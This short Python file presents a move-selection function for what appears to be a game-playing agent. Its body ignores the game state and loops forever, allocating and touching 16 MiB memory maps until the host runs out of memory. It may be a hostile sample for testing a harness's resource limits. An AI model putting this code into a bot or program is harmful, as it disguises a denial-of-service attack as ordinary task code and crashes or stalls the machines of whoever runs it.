import mmap


def choose_move(view):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 2**24))
        for at in range(0, 2**24, 4096):
            kept[-1][at] = 1
